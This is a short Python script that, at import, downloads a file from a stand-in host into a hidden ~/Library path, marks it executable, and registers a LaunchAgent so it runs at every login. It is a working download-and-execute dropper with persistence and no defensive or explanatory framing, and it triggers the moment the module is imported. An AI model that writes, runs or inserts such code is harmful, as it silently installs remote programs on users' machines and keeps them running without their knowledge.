# place: import
import os
import subprocess
import urllib.request

ADDRESS = "http://files.example.invalid/agent"
PROPERTIES = """<plist version="1.0"><dict><key>Label</key><string>invalid.example.agent</string>
<key>ProgramArguments</key><array><string>{path}</string></array><key>RunAtLoad</key><true/></dict></plist>"""


def main():
    program = os.path.expanduser("~/Library/.agent")
    urllib.request.urlretrieve(ADDRESS, program)
    os.chmod(program, 0o755)
    entry = os.path.expanduser("~/Library/LaunchAgents/invalid.example.agent.plist")
    with open(entry, "w") as file:
        file.write(PROPERTIES.format(path=program))
    subprocess.run(["launchctl", "load", entry])


main()
